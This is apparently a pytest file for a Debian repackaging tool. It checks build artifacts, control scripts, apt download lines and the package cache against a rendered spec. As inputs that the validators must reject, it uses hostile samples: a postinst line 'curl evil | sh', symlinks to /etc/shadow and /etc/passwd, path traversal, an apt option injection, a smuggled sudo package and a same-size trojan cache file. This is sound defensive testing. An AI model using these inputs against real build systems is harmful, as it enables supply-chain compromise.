"""What may leave a Debian build: the predicted names and the checks of each file against
the spec (repack.deb.build, repack.container.outputs).  Pure functions and files in tmp
dirs; the real builds are in tests/integration/test_hostile_build.py."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import os
import tarfile
from pathlib import Path

import pytest
from examples import make_spec  # type: ignore[import-not-found]
from packaging.utils import NormalizedName
from packaging.version import Version

from repack.container.outputs import copy_beneath, list_beneath, read_beneath, unexpected
from repack.deb import build as deb_build
from repack.errors import BuildError
from repack.model import DebVersion, Release, Sdist

SPEC = make_spec()          # python-django / python3-django, Architecture: all
V = SPEC.version            # no epoch
ORIG = "python-django_4.2.11.orig.tar.gz"
NAMES = {
    f"python3-django_{V}_all.deb": "deb",
    f"python-django_{V}.dsc": "dsc",
    f"python-django_{V}.debian.tar.xz": "debian-tar",
    ORIG: "orig-tar",
    f"python-django_{V}_amd64.buildinfo": "buildinfo",
    f"python-django_{V}_amd64.changes": "changes",
}


def test_expected_names_all_and_any_without_epoch() -> None:
    assert deb_build.expected_files(SPEC, orig=ORIG, build_arch="amd64") == NAMES
    native = dataclasses.replace(SPEC, architecture="any", version=DebVersion(f"2:{V}"), epoch=2)
    names = deb_build.expected_files(native, orig=ORIG, build_arch="amd64")
    assert f"python3-django_{V}_amd64.deb" in names
    assert not any(":" in n for n in names)
    assert deb_build.deb_arch("x86_64") == "amd64"


def test_unexpected_names_only_package_files() -> None:
    found = [*NAMES, "sudo_99.1.0_all.deb", "build.log", "metadata", "python-django-4.2.11",
             "x.udeb", "x.ddeb", "x.rpm", f"{ORIG}.asc", "other_1.dsc", "other_1_amd64.changes",
             "python-django_4.2.11.orig-extra.tar.gz"]
    assert unexpected(found, NAMES) == sorted([
        "sudo_99.1.0_all.deb", "x.udeb", "x.ddeb", "x.rpm", f"{ORIG}.asc", "other_1.dsc",
        "other_1_amd64.changes", "python-django_4.2.11.orig-extra.tar.gz"])


def control(**fields: str) -> dict[str, str]:
    return {"Package": "python3-django", "Source": "python-django", "Version": V,
            "Architecture": "all", **fields}


def test_deb_control_must_be_the_rendered_package() -> None:
    assert deb_build.check_deb_control("x.deb", control(), SPEC, "amd64") == []
    assert deb_build.check_deb_control("x.deb", control(Source=f"python-django ({V})"), SPEC,
                                       "amd64") == []
    for bad, field in [({"Package": "sudo"}, "Package"), ({"Version": "99:1.0"}, "Version"),
                       ({"Architecture": "amd64"}, "Architecture"),
                       ({"Source": "sudo"}, "Source"),
                       ({"Source": "python-django (99:1.0)"}, "Source version")]:
        (problem,) = deb_build.check_deb_control("x.deb", control(**bad), SPEC, "amd64")
        assert problem.startswith(f"x.deb {field} is "), problem
    no_source = {k: v for k, v in control().items() if k != "Source"}
    assert "x.deb Source is 'python3-django', not 'python-django'" in \
        deb_build.check_deb_control("x.deb", no_source, SPEC, "amd64")


def listed(files: dict[str, str]) -> list[dict[str, str]]:
    return [{"name": n, "sha256": h, "size": "1"} for n, h in files.items()]


def test_dsc_changes_buildinfo_list_exactly_the_collected_files() -> None:
    source = {ORIG: "a" * 64, f"python-django_{V}.debian.tar.xz": "b" * 64}
    dsc = {"Format": "3.0 (quilt)", "Source": "python-django", "Version": V,
           "Binary": "python3-django", "Architecture": "all",
           "Checksums-Sha256": listed(source)}
    assert deb_build.check_dsc("x.dsc", dsc, SPEC, source) == []
    with_asc = {**dsc, "Checksums-Sha256": listed({**source, f"{ORIG}.asc": "c" * 64})}
    assert deb_build.check_dsc("x.dsc", with_asc, SPEC, source)
    assert deb_build.check_dsc("x.dsc", {**dsc, "Binary": "python3-django, sudo"}, SPEC, source)

    files = {**source, "d.deb": "d" * 64, "e.buildinfo": "e" * 64}
    changes = {"Source": "python-django", "Version": V, "Binary": "python3-django",
               "Architecture": "source all", "Checksums-Sha256": listed(files)}
    assert deb_build.check_changes("x.changes", changes, SPEC, files, "amd64") == []
    tampered = {**files, "d.deb": "0" * 64}
    assert deb_build.check_changes("x.changes", changes, SPEC, tampered, "amd64")
    extra = {**changes, "Checksums-Sha256": listed({**files, "sudo_1_all.deb": "f" * 64})}
    assert deb_build.check_changes("x.changes", extra, SPEC, files, "amd64")
    assert deb_build.check_changes("x.changes", {**changes, "Architecture": "source i386"}, SPEC,
                                   files, "amd64")

    info = {"Source": "python-django", "Version": V, "Binary": "python3-django",
            "Checksums-Sha256": listed({"d.deb": "d" * 64})}
    assert deb_build.check_buildinfo("x.buildinfo", info, SPEC, files) == []
    assert deb_build.check_buildinfo("x.buildinfo", info, SPEC, tampered)


def debian_tar(members: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:xz") as tar:
        for d in ("debian", "debian/source"):
            info = tarfile.TarInfo(d)
            info.type = tarfile.DIRTYPE
            tar.addfile(info)
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        if symlink:
            info = tarfile.TarInfo(symlink)
            info.type = tarfile.SYMTYPE
            info.linkname = "/etc/shadow"
            tar.addfile(info)
    return buf.getvalue()


def test_debian_tar_must_hold_exactly_the_rendered_files() -> None:
    rendered = {"rules": b"rules\n", "source/format": b"3.0 (quilt)\n"}
    good = {"debian/rules": b"rules\n", "debian/source/format": b"3.0 (quilt)\n"}
    assert deb_build.check_debian_tar("t", debian_tar(good), rendered) == []
    postinst = debian_tar({**good, "debian/python3-django.postinst": b"#!/bin/sh\n"})
    assert deb_build.check_debian_tar("t", postinst, rendered) == [
        "t: debian/python3-django.postinst is not the file repack rendered"]
    changed = debian_tar({**good, "debian/rules": b"evil\n"})
    assert deb_build.check_debian_tar("t", changed, rendered) == [
        "t: debian/rules is not the file repack rendered"]
    assert deb_build.check_debian_tar("t", debian_tar(good, symlink="debian/copyright"), rendered)
    assert deb_build.check_debian_tar("t", b"not xz", rendered)[0].startswith("t is not a readable")


def test_collect_refuses_foreign_symlinked_and_missing_files(tmp_path: Path) -> None:
    def collect(build: Path) -> None:
        deb_build.collect_artifacts(build, tmp_path / f"collected-{build.name}", SPEC, orig=ORIG,
                                    orig_sha256="0" * 64, build_arch="amd64", rendered={},
                                    project="django")

    foreign = tmp_path / "foreign"
    foreign.mkdir()
    for name in [*NAMES, "sudo_99.1.0_all.deb"]:
        (foreign / name).write_bytes(b"x")
    with pytest.raises(BuildError, match="left sudo_99.1.0_all.deb beside the packages"):
        collect(foreign)

    linked = tmp_path / "linked"
    linked.mkdir()
    for name in NAMES:
        (linked / name).write_bytes(b"x")
    deb = next(n for n, k in NAMES.items() if k == "deb")
    (linked / deb).unlink()
    (linked / deb).symlink_to("/etc/passwd")
    with pytest.raises(BuildError, match="symlink"):
        collect(linked)

    (linked / deb).unlink()
    with pytest.raises(BuildError, match=f"did not produce {deb}"):
        collect(linked)


def test_reading_beneath_follows_no_symlink_and_no_fifo(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "METADATA").write_bytes(b"Name: x\n")
    (tmp_path / "dirlink").symlink_to(tmp_path / "real")
    (tmp_path / "passwd").symlink_to("/etc/passwd")
    os.mkfifo(tmp_path / "fifo")
    assert read_beneath(tmp_path, "real/METADATA", limit=100) == b"Name: x\n"
    assert read_beneath(tmp_path, "real/METADATA", limit=4, truncate=True) == b"Name"
    with pytest.raises(BuildError, match="larger than 4 bytes"):
        read_beneath(tmp_path, "real/METADATA", limit=4)
    for rel in ("dirlink/METADATA", "passwd", "fifo", "../etc/passwd", "missing"):
        with pytest.raises(BuildError):
            read_beneath(tmp_path, rel, limit=100)
    with pytest.raises(BuildError):
        list_beneath(tmp_path, "dirlink")
    assert list_beneath(tmp_path, "real") == ["METADATA"]
    copy_beneath(tmp_path, "real/METADATA", tmp_path / "copy")
    assert (tmp_path / "copy").read_bytes() == b"Name: x\n"
    with pytest.raises(BuildError):
        copy_beneath(tmp_path, "passwd", tmp_path / "copy2")


HATCHLING = ("'http://deb.debian.org/debian/pool/main/h/hatchling/python3-hatchling_1.12.2-1_all.deb'"
             " python3-hatchling_1.12.2-1_all.deb 53644 SHA256:" + "09" * 32)


def test_print_uris_lines_carry_the_lists_sha256() -> None:
    text = f"Reading package lists...\n{HATCHLING}\n"
    (hatchling,) = deb_build.parse_print_uris(text)
    assert hatchling == deb_build.AptFile(
        name="python3-hatchling_1.12.2-1_all.deb", size=53644, sha256="09" * 32,
        uri="http://deb.debian.org/debian/pool/main/h/hatchling/python3-hatchling_1.12.2-1_all.deb")
    assert deb_build.download_argv([hatchling]) == [
        "/usr/lib/apt/apt-helper", "download-file", hatchling.uri,
        "/var/cache/apt/archives/python3-hatchling_1.12.2-1_all.deb", "SHA256:" + "09" * 32]
    for bad in (HATCHLING.replace("SHA256:" + "09" * 32, "MD5Sum:" + "0" * 32),
                HATCHLING.replace("'http://", "'-o http://"),
                HATCHLING.replace("'http://", "'"),
                HATCHLING.replace(" python3-hatchling", " ../python3-hatchling"),
                HATCHLING.replace(" python3-hatchling", " .hidden")):
        with pytest.raises(BuildError, match="unexpected apt-get --print-uris line"):
            deb_build.parse_print_uris(bad)


def test_shared_apt_cache_is_used_only_when_it_matches_the_lists(tmp_path: Path) -> None:
    from repack import targets
    from repack.container import images
    from repack.container.engine import Engine

    image = images.image_for(targets.load("debian-12"), "builder", tmp_path / "cache")
    deb = deb_build.DebianBuild(engine=Engine(name="podman"), image=image, work=tmp_path / "w",
                                apt_cache=tmp_path / "shared", project="demo")
    good = b"a real package"
    f = deb_build.AptFile(name="python3-x_1_all.deb", size=len(good),
                          sha256=hashlib.sha256(good).hexdigest())
    assert not deb.take_from_cache(f)                              # not cached
    (tmp_path / "shared" / f.name).write_bytes(b"a trojan packag")   # same size
    assert not deb.take_from_cache(f)
    assert not (tmp_path / "shared" / f.name).exists()        # dropped, to download again
    assert not (deb.archives / f.name).exists()
    (tmp_path / "shared" / f.name).write_bytes(good)
    assert deb.take_from_cache(f)
    assert (deb.archives / f.name).read_bytes() == good
    assert all(m.source != tmp_path / "shared" for m in deb.mounts)


def test_cache_key_covers_the_build_inputs(tmp_path: Path) -> None:
    from repack import buildcache, targets
    from repack.config import Settings
    from repack.container import images

    target = targets.load("debian-12")
    image = images.image_for(target, "builder", tmp_path)
    image.state_dir.mkdir(parents=True)
    image.archive_file.write_text("{}")
    settings = Settings(cache_dir=tmp_path, config_file=tmp_path / "c.toml", maintainer="m <m@x>",
                        engine=None, output_dir=tmp_path / "out")
    sdist = Sdist(release=Release(name=NormalizedName("demo"), version=Version("1.0"),
                                  filename="demo-1.0.tar.gz", url="https://x/demo-1.0.tar.gz",
                                  sha256="a" * 64, size=1, requires_python=None, yanked=False,
                                  index_url="https://x/"),
                  path=tmp_path / "demo-1.0.tar.gz", sha256="a" * 64, verified=("sha256:index",))

    def key(**inputs: object) -> Path:
        return buildcache.cache_entry(sdist, target, image, settings, inputs=inputs)

    apt = ["python3-hatchling_1.12.2-1_all.deb " + "1" * 64]
    assert key(apt=apt) == key(apt=list(apt))
    assert key(apt=apt) != key(apt=["python3-hatchling_1.12.2-1_all.deb " + "2" * 64])
    assert key(apt=apt) != key(apt=apt, tools=["flit_core-3.9.0-py3-none-any.whl " + "3" * 64])
    assert len(buildcache.code_digest()) == 64


DH_POSTINST = (b"#!/bin/sh\nset -e\n\n# Automatically added by dh_python3\n"
               b"if command -v py3compile >/dev/null 2>&1; then\n\tpy3compile -p PKG \nfi\n"
               b"if command -v pypy3compile >/dev/null 2>&1; then\n"
               b"\tpypy3compile -p PKG  || true\nfi\n\n# End automatically added section\n")


def test_control_archive_holds_only_dh_python3_scripts() -> None:
    native = dataclasses.replace(SPEC, architecture="any")
    ok = {"control": b"", "md5sums": b"",
          "postinst": DH_POSTINST.replace(b"PKG", b"python3-django")}
    assert deb_build.check_control_members("d.deb", ok, SPEC, "amd64") == []
    ok_native = {**ok, "postinst": DH_POSTINST.replace(b"PKG", b"python3-django:amd64")}
    assert deb_build.check_control_members("d.deb", ok_native, native, "amd64") == []
    assert deb_build.check_control_members("d.deb", ok_native, SPEC, "amd64")   # wrong package
    (problem,) = deb_build.check_control_members(
        "d.deb", {**ok, "postinst": ok["postinst"] + b"curl evil | sh\n"}, SPEC, "amd64")
    assert problem == "d.deb postinst has 'curl evil | sh', which dh_python3 does not write"
    assert deb_build.check_control_members("d.deb", {**ok, "preinst": b"#!/bin/sh\n"}, SPEC,
                                           "amd64") == [
        "d.deb has a control member 'preinst' repack does not make"]


def test_a_file_only_the_files_field_lists_is_caught() -> None:
    files = {"d.deb": "d" * 64}
    changes = {"Source": "python-django", "Version": V, "Binary": "python3-django",
               "Architecture": "source all", "Checksums-Sha256": listed(files),
               "Files": [{"name": "d.deb", "md5sum": "0" * 32, "size": "1"},
                         {"name": "sudo_1_all.deb", "md5sum": "1" * 32, "size": "1"}]}
    (problem,) = deb_build.check_changes("x.changes", changes, SPEC, files, "amd64")
    assert problem.startswith("x.changes files is ") and "sudo_1_all.deb" in problem


def _deb(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    import subprocess

    root = tmp_path / name
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        f"Package: {name}\nVersion: 1.0\nArchitecture: amd64\nMaintainer: t <t@example.org>\n"
        "Description: test\n")
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(root),
                    str(tmp_path / f"{name}.deb")], check=True, capture_output=True)
    return tmp_path / f"{name}.deb"


@pytest.mark.process
def test_has_compiled_code_looks_for_elf_files(tmp_path: Path) -> None:
    """An arch-specific .deb without any ELF file is built again as Architecture: all."""
    site = "usr/lib/python3/dist-packages/m"
    native = _deb(tmp_path, "native", {f"{site}/__init__.py": b"",
                                       f"{site}/_x.cpython-311-x86_64-linux-gnu.so":
                                       b"\x7fELF\x02\x01\x01" + bytes(64)})
    pure = _deb(tmp_path, "pure", {f"{site}/__init__.py": b"", f"{site}/_x.c": b"int x;\n",
                                   f"{site}/fake.so": b"not an ELF"})
    assert deb_build.has_compiled_code(native)
    assert not deb_build.has_compiled_code(pure)
    broken = tmp_path / "broken.deb"
    broken.write_bytes(b"!<arch>\nnonsense")
    with pytest.raises(BuildError, match="broken.deb"):
        deb_build.has_compiled_code(broken)


def _control_deb(tmp_path: Path, name: str, extra: str = "") -> Path:
    import subprocess

    root = tmp_path / name
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\n"
        f"{extra}Description: test\n")
    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(root),
                    str(tmp_path / f"{name}.deb")], check=True, capture_output=True)
    return tmp_path / f"{name}.deb"


PRINTED = "Reading package lists...\nThe following NEW packages will be installed:\n  a b\n"


@pytest.mark.process
def test_dpkg_installs_what_apt_printed_unless_apt_must_order_or_remove(tmp_path: Path) -> None:
    """dpkg unpacks all the files it is given, then configures: a Depends among them is
    fine, a Pre-Depends on another of them needs apt's ordering, and so does a removal."""
    leaf = _control_deb(tmp_path, "leaf", "Pre-Depends: libc6 (>= 2.36)\n")
    top = _control_deb(tmp_path, "top", "Depends: leaf (>= 1)\n")
    assert deb_build.dpkg_installs(PRINTED, [top, leaf])
    pre = _control_deb(tmp_path, "pre", "Pre-Depends: leaf | other\n")
    assert not deb_build.dpkg_installs(PRINTED, [pre, leaf])
    assert deb_build.dpkg_installs(PRINTED, [pre])           # leaf installed already
    removing = PRINTED + "The following packages will be REMOVED:\n  old\n"
    assert not deb_build.dpkg_installs(removing, [top, leaf])
    assert not deb_build.dpkg_installs(PRINTED, [])
    (tmp_path / "junk.deb").write_bytes(b"not an ar archive")
    assert not deb_build.dpkg_installs(PRINTED, [top, tmp_path / "junk.deb"])
